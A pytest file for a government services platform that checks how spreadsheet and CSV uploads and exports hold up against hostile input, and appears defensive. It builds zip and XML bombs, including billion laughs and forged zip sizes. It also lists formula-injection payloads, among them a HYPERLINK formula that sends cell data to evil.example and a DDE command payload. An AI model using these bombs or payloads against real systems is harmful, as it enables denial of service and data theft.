"""Hostile files are refused with a 422 naming the file field, within a memory bound; exports never carry
a formula out. The bombs are built here; ``bench/files_bench.py`` records how long each refusal takes.

Memory is measured with ``tracemalloc`` around the whole request (the server's parsing included):
each refusal must cost less than 50 MB on top of what was allocated before it.
"""

from __future__ import annotations

import csv
import io
import re
import struct
import tracemalloc
import zipfile
from collections.abc import Callable, Iterable, Iterator
from typing import Any

import pytest
from sqlalchemy import func, select

from smartgov import files
from smartgov.assessment.models import SurveyResponse
from smartgov.identity.models import Role
from tests.factories import api_token, auth, create_account, create_agency

MB = 1024 * 1024
MEMORY_BOUND = 50 * MB
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


# --------------------------------------------------------------------------- building workbooks and bombs


def xlsx(sheet: bytes | Iterable[bytes], strings: bytes | Iterable[bytes] | None = None, *, level: int = 9,
         extra: int = 0) -> bytes:
    """A workbook with these worksheet (and shared strings) parts, streamed into the zip chunk by chunk."""
    out = io.BytesIO()
    parts: dict[str, bytes | Iterable[bytes]] = {
        "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "xl/workbook.xml": (f'<workbook {NS} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                            f'relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets>'
                            f'</workbook>').encode(),
        "xl/_rels/workbook.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                                      b'relationships"><Relationship Id="rId1" Target="worksheets/sheet1.xml" '
                                      b'Type="worksheet"/></Relationships>',
        "xl/worksheets/sheet1.xml": sheet,
    }
    if strings is not None:
        parts["xl/sharedStrings.xml"] = strings
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for name, content in parts.items():
            with z.open(name, "w") as part:
                for chunk in [content] if isinstance(content, bytes) else content:
                    part.write(chunk)
        for i in range(extra):
            z.writestr(f"customXml/item{i}.xml", b"<a/>")
    return out.getvalue()


def sheet_of(rows: list[list[str]]) -> bytes:
    body = "".join("<row>" + "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>' for v in r) + "</row>" for r in rows)
    return f"<worksheet {NS}><sheetData>{body}</sheetData></worksheet>".encode()


def seventy_mb_sheet() -> Iterator[bytes]:
    """About 70 MB of worksheet XML, which deflate packs into a few hundred KB."""
    row = b"<row>" + b'<c t="n"><v>1</v></c>' * 100 + b"</row>"
    yield f"<worksheet {NS}><sheetData>".encode()
    for _ in range(70 * MB // (len(row) * 100)):
        yield row * 100
    yield b"</sheetData></worksheet>"


def huge_shared_string(size: int) -> Iterator[bytes]:
    yield f'<sst {NS}><si><t>'.encode()
    for _ in range(size // MB):
        yield b"a" * MB
    yield b"</t></si></sst>"


BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
                             .encode() for i in range(1, 10))
                  + f"]><worksheet {NS}><sheetData><row><c t=\"inlineStr\"><is><t>&lol9;</t></is></c></row>"
                    "</sheetData></worksheet>".encode())


def lying_sizes(data: bytes, name: str, declared: int) -> bytes:
    """The archive with ``name``'s unpacked size in the central directory replaced by ``declared``."""
    buf = bytearray(data)
    at = buf.find(b"PK\x01\x02")
    while at >= 0:
        (name_len,) = struct.unpack_from("<H", buf, at + 28)
        if buf[at + 46:at + 46 + name_len] == name.encode():
            struct.pack_into("<I", buf, at + 24, declared)
            return bytes(buf)
        at = buf.find(b"PK\x01\x02", at + 4)
    raise AssertionError(name)


@pytest.fixture(scope="module")
def bombs() -> dict[str, bytes]:
    """Built once per run: each is a few hundred KB to ~1 MB uploaded."""
    sheet70 = xlsx(seventy_mb_sheet())
    return {
        "sheet70": sheet70,
        "string300": xlsx(sheet_of([["x"]]), huge_shared_string(300 * MB), level=1),
        "string_long": xlsx(sheet_of([["x"]]), f"<sst {NS}><si><t>{'ب' * 40_000}</t></si></sst>".encode()),
        "laughs": xlsx(BILLION_LAUGHS),
        "entries": xlsx(sheet_of([["x"]]), extra=5_000),
        "lying": lying_sizes(sheet70, "xl/worksheets/sheet1.xml", 10_000),
        "not_zip": b"PK\x03\x04 this is no archive",
    }


# --------------------------------------------------------------------------- the reader itself


def test_xlsx_rows_match_what_openpyxl_reads() -> None:
    from openpyxl import Workbook, load_workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["respondent", "q1", "q2", "q3"])
    sheet.append(["r1", 1, 2.5, True])
    sheet.append(["رضا", None, "۳", False])
    sheet["F7"] = "far away"
    sheet["B9"] = -12
    book.create_sheet("Second").append(["not read"])
    out = io.BytesIO()
    book.save(out)
    theirs = [list(r) for r in load_workbook(io.BytesIO(out.getvalue()), read_only=True).worksheets[0]
              .iter_rows(values_only=True)]
    mine = files.xlsx_rows(out.getvalue(), field="file")
    assert len(mine) == len(theirs)
    for a, b in zip(mine, theirs, strict=True):
        assert a == b[:len(a)] and not any(b[len(a):])  # same cells; ours are not padded with None


def test_inline_strings_rich_text_and_gaps() -> None:
    sheet = (f'<worksheet {NS}><sheetData><row r="2"><c r="B2" t="inlineStr"><is><r><t>پا</t></r><r><t>رک</t></r>'
             f'<rPh><t>ignored</t></rPh></is></c><c r="C2" t="s"><v>0</v></c><c r="D2"><v>1.5E2</v></c></row>'
             f"</sheetData></worksheet>").encode()
    strings = f'<sst {NS}><si><r><t>a</t></r><r><t>b</t></r></si></sst>'.encode()
    assert files.xlsx_rows(xlsx(sheet, strings), field="file") == [[], [None, "پارک", "ab", 150.0]]


def test_long_numbers_in_cells_never_reach_int() -> None:
    """``int()`` refuses more than 4,300 digits with a ValueError: a cell may hold 30,000."""
    long = "7" * 5_000
    sheet = f'<worksheet {NS}><sheetData><row><c><v>{long}</v></c></row></sheetData></worksheet>'.encode()
    assert files.xlsx_rows(xlsx(sheet), field="f")[0][0] == float("inf")
    sheet = f'<worksheet {NS}><sheetData><row><c t="s"><v>{long}</v></c></row></sheetData></worksheet>'.encode()
    with pytest.raises(files.FileRefused) as refused:
        files.xlsx_rows(xlsx(sheet), field="f")
    assert refused.value.code == "file_unreadable"


@pytest.mark.parametrize("limits, code", [
    (files.Limits(max_rows=2), "file_too_many_rows"),
    (files.Limits(max_columns=3), "file_too_many_columns"),
    (files.Limits(max_cells=5), "file_too_many_cells"),
    (files.Limits(max_cell_chars=3), "file_cell_too_long"),
    (files.Limits(max_text_chars=10), "file_too_much_text"),
])
def test_each_limit_stops_the_parse(limits: files.Limits, code: str) -> None:
    data = xlsx(sheet_of([["abcd", "b", "c", "d"]] * 4))
    with pytest.raises(files.FileRefused) as refused:
        files.xlsx_rows(data, field="upload", limits=limits)
    assert (refused.value.code, refused.value.field, refused.value.status) == (code, "upload", 422)


def test_csv_limits_and_encoding() -> None:
    ok = list(files.csv_records("\ufeffa,b\r\n1,\x002\n".encode(), field="f"))
    assert ok == [["a", "b"], ["1", "2"]]
    cases = [
        ("a," * 200_000 + "\n").encode(),  # one line past the line limit
        ("a\n" * 100_001).encode(),  # past the row limit
        (",".join(["x"] * 1_001) + "\n").encode(),  # past the column limit
        "national_code,نام\n".encode("cp1256"),  # not UTF-8
    ]
    found = []
    for data in cases:
        with pytest.raises(files.FileRefused) as refused:
            list(files.csv_records(data, field="f"))
        found.append((refused.value.code, refused.value.line))
    assert found == [("file_line_too_long", 1), ("file_too_many_rows", 100_001), ("file_too_many_columns", 1),
                     ("encoding", 1)]


def test_zip_entries_are_counted_before_the_directory_is_read() -> None:
    with pytest.raises(files.FileRefused) as refused:
        files.open_zip(xlsx(sheet_of([["x"]]), extra=250), field="f")
    assert refused.value.code == "file_too_many_parts"
    for damaged in (b"PK\x05\x06" + bytes(18), b"PK\x05\x06" + b"\xff" * 18, b"no zip at all"):
        with pytest.raises(files.FileRefused) as refused:
            files.xlsx_rows(damaged, field="f")  # an empty archive, an absurd end record, no archive
        assert refused.value.code in ("file_unreadable", "file_too_many_parts"), damaged


# --------------------------------------------------------------------------- bombs through the real routes


@pytest.fixture
def importer(client, db) -> Callable[..., Any]:  # type: ignore[no-untyped-def]
    """Posts a file to a round's response import (API), as the agency's administrator."""
    from tests.assessment.test_assessment_api import make_round

    create_agency(db, "agency-a")
    admin = create_account(db, "admin-a", role=Role.AGENCY_ADMIN, organization="agency-a")
    db.commit()
    token = api_token(client, admin)
    round_id = make_round(client, token)["id"]

    def post(name: str, data: bytes, lang: str = "en") -> Any:
        return client.post(f"/api/v1/assessment/rounds/{round_id}/responses/import",
                           headers={**auth(token), "Accept-Language": lang},
                           files={"file": (name, data, "application/octet-stream")})
    return post


def measured(call: Callable[[], Any]) -> tuple[Any, int]:
    """The call's result and the most memory it held at once beyond what was allocated before."""
    tracemalloc.start()
    try:
        before = tracemalloc.get_traced_memory()[0]
        tracemalloc.reset_peak()
        result = call()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return result, peak - before


@pytest.mark.parametrize("bomb, codes", [
    ("sheet70", {"file_compression", "file_unpacked_too_large"}),
    ("string300", {"file_unpacked_too_large", "file_compression"}),
    ("string_long", {"file_cell_too_long"}),
    ("laughs", {"file_xml_declarations"}),
    ("entries", {"file_too_many_parts"}),
    ("lying", {"file_unreadable"}),
    ("not_zip", {"file_unreadable"}),
])
def test_xlsx_bombs_are_refused_with_a_422_in_bounded_memory(importer, bombs, db, bomb: str,  # type: ignore[no-untyped-def]
                                                             codes: set[str]) -> None:
    r, extra = measured(lambda: importer("answers.xlsx", bombs[bomb]))
    assert r.status_code == 422, r.text
    error = r.json()["error"]
    assert error["code"] in codes and error["field"] == "file", error
    assert extra < MEMORY_BOUND, f"{bomb}: {extra / MB:.1f} MB"
    assert db.scalar(select(func.count()).select_from(SurveyResponse)) == 0
    fa = importer("answers.xlsx", bombs[bomb], lang="fa").json()["error"]["message"]
    assert fa != error["message"] and re.search("[\u0600-\u06ff]", fa)  # localized


def test_the_bombs_are_what_the_issue_describes(bombs) -> None:  # type: ignore[no-untyped-def]
    sizes = {name: sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(data)).infolist())
             for name, data in bombs.items() if name not in ("not_zip", "lying")}
    assert len(bombs["sheet70"]) < 400 * 1024 and sizes["sheet70"] > 69 * MB
    assert sizes["string300"] > 300 * MB
    assert len(zipfile.ZipFile(io.BytesIO(bombs["entries"])).infolist()) > 5_000


def test_a_huge_csv_line_is_refused_in_bounded_memory(client, importer, db) -> None:  # type: ignore[no-untyped-def]
    line = ("r1," + ",".join(["3"] * 2_500_000) + "\n").encode()  # 10 MB, one line
    r, extra = measured(lambda: importer("answers.csv", line))
    assert r.status_code == 422 and r.json()["error"]["code"] == "file_line_too_long"
    assert r.json()["error"]["field"] == "file"
    # what the request holds beyond the 10 MB upload itself (client body, spooled copy, the bytes read)
    assert extra - 3 * len(line) < MEMORY_BOUND, f"{extra / MB:.1f} MB"


def test_wage_report_csv_limits_through_the_check_route(client, db) -> None:  # type: ignore[no-untyped-def]
    from tests.insurance.support import arrange, last_month

    a = arrange(db)
    db.commit()
    boss = auth(api_token(client, a["boss"]))
    year, month = last_month()
    header = "national_code,first_name,last_name,start_date,days_worked,monthly_wage\n"
    for data, code in (((header + "0012345679," + "x," * 200_000 + "\n").encode(), "file_line_too_long"),
                       ((header + ",".join(["x"] * 101) + "\n").encode(), "file_too_many_columns")):
        r, extra = measured(lambda data=data: client.post(
            "/api/v1/insurance/wage-reports/check", headers=boss, data={"year": year, "month": month},
            files={"file": ("list.csv", data, "text/csv")}))
        assert r.status_code == 200 and r.json()["valid"] is False
        assert {(e["row"], e["code"]) for e in r.json()["errors"]} == {(2, code)}, r.json()
        assert extra - 3 * len(data) < MEMORY_BOUND


# --------------------------------------------------------------------------- exports

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1", "\r=1"]


def test_safe_cell_follows_owasp() -> None:
    for value in HOSTILE:
        assert files.safe_cell(value) == "'" + value
    for value in ("plain", "۱۲۳", "", " =not first", -5, 3.5, None, True):
        assert files.safe_cell(value) == value
    rows = list(csv.reader(io.StringIO(files.csv_text(["a"], [[v] for v in HOSTILE]))))
    assert all(r[0].startswith("'") for r in rows[1:])


def _cells_start_safely(text: str) -> None:
    """No cell a spreadsheet would run: only numbers may start with a minus."""
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or re.fullmatch(r"-[0-9.]+(e-?[0-9]+)?", cell), cell


def test_reconciliation_csv_neutralizes_a_gateway_reference(client, db) -> None:  # type: ignore[no-untyped-def]
    from smartgov.services.payments import SimulatedGateway
    from tests.services.helpers import arrange
    from tests.services.test_services_api import _paid_service, tokens

    accounts = arrange(db)
    db.commit()
    t = tokens(client, {k: accounts[k] for k in ("citizen", "admin")})
    _paid_service(client, db, t["admin"])
    app = client.post("/api/v1/services/applications", headers=t["citizen"],
                      json={"service_id": "permit", "answers": {"workers": 2, "wage": 2000000}}).json()
    started = client.post(f"/api/v1/services/applications/{app['reference']}/pay", headers=t["citizen"]).json()
    callback = SimulatedGateway().sign(started["redirect_url"].rsplit("/", 1)[1], "success", app["fee"], HOSTILE[0])
    assert client.post("/api/v1/services/payments/callback/simulated", data=callback).status_code == 200
    text = client.get("/api/v1/services/reconciliation", headers=t["admin"], params={"format": "csv"}).text
    assert "'" + HOSTILE[0].replace('"', '""') in text
    _cells_start_safely(text)


def test_assessment_exports_neutralize_an_owner(client, db) -> None:  # type: ignore[no-untyped-def]
    """roadmap.csv and export.xlsx, through the API and the pages; export.csv (scores) carries only the
    framework's own labels and numbers, and goes through the same writer."""
    import datetime as dt

    from openpyxl import load_workbook

    from smartgov import clock
    from tests.assessment.test_assessment_api import item_codes, make_round
    from tests.factories import page_login

    create_agency(db, "agency-a")
    admin = create_account(db, "admin-a", role=Role.AGENCY_ADMIN, organization="agency-a")
    db.commit()
    token = api_token(client, admin)
    rid = make_round(client, token, "csf")["id"]
    codes = item_codes(client, token, rid)
    codes += [i["code"] for i in client.get(f"/api/v1/assessment/rounds/{rid}/items?per_page=100&page=2",
                                            headers=auth(token)).json()["items"]]
    rows = ["respondent," + ",".join(codes)] + [f"p{n}," + ",".join(str(1 + (n + i) % 5) for i in range(len(codes)))
                                                for n in range(6)]
    assert client.post(f"/api/v1/assessment/rounds/{rid}/responses/import", headers=auth(token),
                       files={"file": ("a.csv", "\n".join(rows).encode(), "text/csv")}).status_code == 201
    actions = client.post(f"/api/v1/assessment/rounds/{rid}/roadmap", headers=auth(token)).json()["items"]
    r = client.patch(f"/api/v1/assessment/rounds/{rid}/roadmap/{actions[0]['id']}", headers=auth(token),
                     json={"owner": HOSTILE[3]})
    assert r.status_code == 200, r.text
    api = f"/api/v1/assessment/rounds/{rid}"
    clock.advance(dt.timedelta(seconds=31))  # the token took this step's code: a TOTP code works once
    page_login(client, admin)
    for base in (api, f"/assessment/rounds/{rid}"):
        roadmap = client.get(f"{base}/roadmap.csv", headers=auth(token)).content.decode("utf-8-sig")
        assert "'" + HOSTILE[3] in roadmap
        _cells_start_safely(roadmap)
        _cells_start_safely(client.get(f"{base}/export.csv", headers=auth(token)).content.decode("utf-8-sig"))
        book = load_workbook(io.BytesIO(client.get(f"{base}/export.xlsx", headers=auth(token)).content))
        values = [c for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for c in row]
        assert "'" + HOSTILE[3] in values
        assert not any(isinstance(v, str) and v.startswith(("=", "+", "@", "-")) for v in values)
        assert all(c.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for c in row)


def test_participation_exports_neutralize_what_people_wrote(client, db) -> None:  # type: ignore[no-untyped-def]
    import datetime as dt

    from smartgov import clock
    from smartgov.participation import service
    from tests.participation.helpers import agency, citizen, consultation, count_votes

    org = agency(db)
    c = consultation(db, org)
    service.post_comment(db, account=citizen(db, "writer"), subject_kind="consultation", subject_id=c.id,
                         body=HOSTILE[0])
    poll = service.create_poll(db, organization=org, slug="parks", question_fa="پارک؟", question_en="Parks?",
                               options=[(HOSTILE[1], HOSTILE[2]), ("خیر", "No")],
                               opens_at=clock.now() - dt.timedelta(hours=1), closes_at=clock.now() + dt.timedelta(days=1))
    budget = service.create_budget(db, organization=org, slug="pb", title_fa="بودجه", title_en="Budget", total=100,
                                   style="knapsack", projects=[(HOSTILE[3], HOSTILE[4], 60), ("کتابخانه", "Library", 50)],
                                   opens_at=clock.now() - dt.timedelta(hours=1),
                                   closes_at=clock.now() + dt.timedelta(days=1))
    db.commit()
    count_votes(db, dt.timedelta(days=2))  # closed and counted: results exist only then
    exports = {
        "comments": client.get(f"/api/v1/participation/consultations/{c.slug}/comments.csv"),
        "poll": client.get(f"/api/v1/participation/polls/{poll.id}/results.csv"),
        "budget": client.get(f"/api/v1/participation/budgets/{budget.id}/results.csv"),
    }
    for name, r in exports.items():
        assert r.status_code == 200, (name, r.text)
        _cells_start_safely(r.text)
    cells = {name: {cell for row in csv.reader(io.StringIO(r.text)) for cell in row} for name, r in exports.items()}
    assert "'" + HOSTILE[0] in cells["comments"]
    assert {"'" + HOSTILE[1], "'" + HOSTILE[2]} <= cells["poll"]
    assert {"'" + HOSTILE[3], "'" + HOSTILE[4]} <= cells["budget"]
